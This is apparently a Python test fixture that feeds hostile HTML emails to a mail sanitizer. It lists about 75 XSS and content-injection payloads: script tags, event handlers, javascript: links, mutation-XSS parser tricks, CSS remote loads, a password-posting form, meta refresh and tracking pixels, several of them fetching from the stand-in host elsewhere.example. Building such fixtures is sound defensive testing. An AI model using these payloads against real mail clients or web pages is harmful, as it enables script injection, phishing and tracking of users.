"""HTML as hostile mail brings it: to run something, to load something, to send something, to lead astray."""

# ruff: noqa: E501 (one line is one trick)

from __future__ import annotations

from collections.abc import Iterator

from tests.factories.mails import make_mail

LEFT = "https://elsewhere.example"  # whoever asks for anything here was led astray
RAN = "document.title='ran';top.document.title='ran';fetch('https://elsewhere.example/ran')"

SCRIPTS = [
    f"<script>{RAN}</script>",
    f"<SCRIPT SRC={LEFT}/a.js></SCRIPT><script/src={LEFT}/b.js></script>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<script>/*<!--*/{RAN}//--></script\n>",
    f"<svg><script>{RAN}</script></svg><svg><script href='{LEFT}/c.js'></script></svg>",
    f"<math><script>{RAN}</script></math>",
    f"<noscript><p title='</noscript><script>{RAN}</script>'>",
    f"<!--[if mso]><script>{RAN}</script><![endif]--><!--><script>{RAN}</script>-->",
    f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    "<iframe src='data:text/html,<script>top.document.title=1</script>'></iframe>",
    f"<iframe srcdoc=\"<iframe srcdoc='<script>{RAN}</script>'></iframe>\"></iframe>",
    f"<object data='data:text/html,<script>{RAN}</script>'></object><embed src='{LEFT}/a.swf'>",
    f"<template><script>{RAN}</script></template><textarea></textarea><script>{RAN}</script>",
    f"<title><script>{RAN}</script></title><xmp><script>{RAN}</script></xmp>",
    f"<plaintext-x><script>{RAN}</script>",
]
HANDLERS = [
    f'<img src=x onerror="{RAN}">',
    f'<img src=x onerror="{RAN}"//',
    f'<img/src/onerror="{RAN}">',
    f'<img src="x` `"` onerror="{RAN}">',
    f'<body onload="{RAN}"><p>x</p></body>',
    f'<svg onload="{RAN}"></svg><svg/onload="{RAN}">',
    f'<details open ontoggle="{RAN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{RAN}"><select autofocus onfocus="{RAN}"></select>',
    f'<video><source onerror="{RAN}"></video><audio src=x onerror="{RAN}"></audio>',
    f'<marquee onstart="{RAN}">x</marquee><p onmouseover="{RAN}" oNcLiCk="{RAN}">x</p>',
    f'<table background="x" onanimationstart="{RAN}"><tr><td>x</td></tr></table>',
    f'<a href="https://a.example" onclick="{RAN}" target=_self rel=opener>x</a>',
    f'<p style="animation-name:x" onanimationend="{RAN}" contenteditable onbeforeinput="{RAN}">x</p>',
]
LINKS = [
    f'<a href="javascript:{RAN}">x</a><a href="JaVaScRiPt:{RAN}">x</a>',
    f'<a href=" javascript:{RAN}">x</a><a href="\tjavascript:{RAN}">x</a><a href="\x01javascript:{RAN}">x</a>',
    f'<a href="java\nscript:{RAN}">x</a><a href="java&#9;script:{RAN}">x</a><a href="java&Tab;script:{RAN}">x</a>',
    f'<a href="&#106;avascript:{RAN}">x</a><a href="&#x6A;avascript&colon;{RAN}">x</a>',
    f'<a href="vbscript:x">x</a><a href="data:text/html,<script>{RAN}</script>">x</a><a href="feed:javascript:x">x</a>',
    f'<a href="view-source:javascript:{RAN}">x</a><a href="file:///etc/passwd">x</a><a href="blob:x">x</a>',
    f'<a xlink:href="javascript:{RAN}">x</a><svg><a xlink:href="javascript:{RAN}"><text>x</text></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{RAN}" /></svg><a href="//elsewhere.example/x">x</a>',
    f'<area href="javascript:{RAN}" shape=default><map name=m><area href="{LEFT}/m"></map><img usemap="#m">',
    f'<a href="https://a.example" ping="{LEFT}/ping">x</a>',
]
FORMS = [
    f'<form action="{LEFT}/form" method=post><input name=password><button>Sign in</button></form>',
    f'<form id=f></form><button form=f formaction="{LEFT}/b">x</button><input type=image src="{LEFT}/i.png">',
    f'<isindex action="{LEFT}/i"><keygen><select name=s><option>x</select>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RAN}">',
]
PAGES = [
    f'<meta http-equiv=refresh content="0;url={LEFT}/refresh"><META HTTP-EQUIV="Refresh" CONTENT="0;{LEFT}/r2">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RAN}"><meta http-equiv=set-cookie content="session=x">',
    f'<base href="{LEFT}/"><a href="relative">x</a><img src="relative.png"><base target=_top>',
    f'<link rel=stylesheet href="{LEFT}/a.css"><link rel=prefetch href="{LEFT}/p"><link rel=dns-prefetch href="{LEFT}">',
    f'<link rel=preconnect href="{LEFT}"><link rel=icon href="{LEFT}/f.ico"><link rel=manifest href="{LEFT}/m.json">',
    f"<iframe src='{LEFT}/frame'></iframe><frameset><frame src='{LEFT}/f2'></frameset><portal src='{LEFT}/p'></portal>",
    "<p id=app name=app class=hidden>clobber</p><form id=body><input name=firstChild></form>",
]
STYLES = [
    f"<style>@import '{LEFT}/b.css';body{{background:url({LEFT}/c.png)}}*{{display:none!important}}</style>",
    f"<style>@import url({LEFT}/d.css);@font-face{{font-family:x;src:url({LEFT}/x.woff)}}p{{font-family:x}}</style>",
    f"<div style='background:url({LEFT}/a.png)'>x</div><div style='background-image:url(\"{LEFT}/b.png\")'>x</div>",
    f"<div style='background-color:u\\72l({LEFT}/c)'>x</div><div style='list-style:url({LEFT}/d)'>x</div>",
    f"<div style='border-image:url({LEFT}/e) 1;cursor:url({LEFT}/f),auto;content:url({LEFT}/g)'>x</div>",
    f"<div style='width:expression({RAN});behavior:url({LEFT}/h.htc);-moz-binding:url({LEFT}/i.xml#x)'>x</div>",
    f"<div style='background:/**/url({LEFT}/j)'>x</div><div style='background:image-set(\"{LEFT}/k\" 1x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99'>Your session ended</div>",
    f"<p style='--x:url({LEFT}/l);background:var(--x)'>x</p><p style='filter:url({LEFT}/m#f)'>x</p>",
]
PICTURES = [
    f"<img src='{LEFT}/pixel?id=1' width=1 height=1><img src=//elsewhere.example/2><IMG SRC='HTTPS://ELSEWHERE.EXAMPLE/3'>",
    f"<img src=' {LEFT}/4'><img src='\t//elsewhere.example/5'><img src='\\\\elsewhere.example\\6'><img src='https:/\\elsewhere.example/7'>",
    f"<img srcset='{LEFT}/a.png 2x'><picture><source srcset='{LEFT}/b.png'><img src=x></picture>",
    f"<img lowsrc='{LEFT}/c' dynsrc='{LEFT}/d' longdesc='{LEFT}/e' src=x><image src='{LEFT}/f'>",
    f"<video src='{LEFT}/a.mp4' poster='{LEFT}/a.png'></video><audio src='{LEFT}/a.mp3'></audio><track src='{LEFT}/t'>",
    f"<table background='{LEFT}/g'><tr background='{LEFT}/h'><td background='//elsewhere.example/i'>x</td></tr></table>",
    f"<svg><image href='{LEFT}/j'/><use href='{LEFT}/k.svg#x'/><foreignObject><img src='{LEFT}/l'></foreignObject></svg>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IngiPjwvc3ZnPg=='><img src='data:text/html,x'><img src='cid:logo'>",
    "<img src='cid:../../api/me'><img src='/api/me'><img src='api/me'><img src='blob:null/x'>",
]
MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>",
    f"<svg></p><style><a title='</style><img src=1 onerror={RAN}>'></style></svg>",
    f"<svg><desc><noscript><img title='</noscript><img src onerror={RAN}>'></desc></svg>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RAN}></style></annotation-xml></math>",
    f"<noembed><img title='</noembed><img src onerror={RAN}>'><noframes><img title='</noframes><img src onerror={RAN}>'>",
    f"<select><template><style><!--</style><a title='--><img src onerror={RAN}>'></template></select>",
    f"<p id='</style><img src=x onerror={RAN}>'><style><style/><img src=x onerror={RAN}></style>",
    f"<table><caption><math><mi><table><style></caption><img src=x onerror={RAN}>",
    f"<svg><foreignObject><math><mi><mglyph><svg><mtext><style><path id='</style><img onerror={RAN} src>'>",
    f"\ufeff<\x00script>{RAN}</script><scr\x00ipt>{RAN}</script><%00script>{RAN}</script>",
]
HOSTILE = [*SCRIPTS, *HANDLERS, *LINKS, *FORMS, *PAGES, *STYLES, *PICTURES, *MUTATIONS]


def hostile_mails(snippets_in_each: int = 12) -> Iterator[bytes]:
    """The whole of it, some in each mail, each between lines that are to stay."""
    for number, start in enumerate(range(0, len(HOSTILE), snippets_in_each)):
        some = HOSTILE[start : start + snippets_in_each]
        body = "".join(f"<div><p>line {number}.{place}</p>{html}</div>" for place, html in enumerate(some))
        yield make_mail(
            f"Hostile mail {number}",
            html=f"<html><body>{body}<p>the end of {number}</p></body></html>".replace("\x00", "").replace(
                "\x01", ""
            ),
            subject=f"Hostile {number} <script>{RAN}</script>",
            sender='"<img src=x onerror=alert(1)>" <jobs@elsewhere.example>',
            message_id=f"<hostile-{number}@elsewhere.example>",
        )
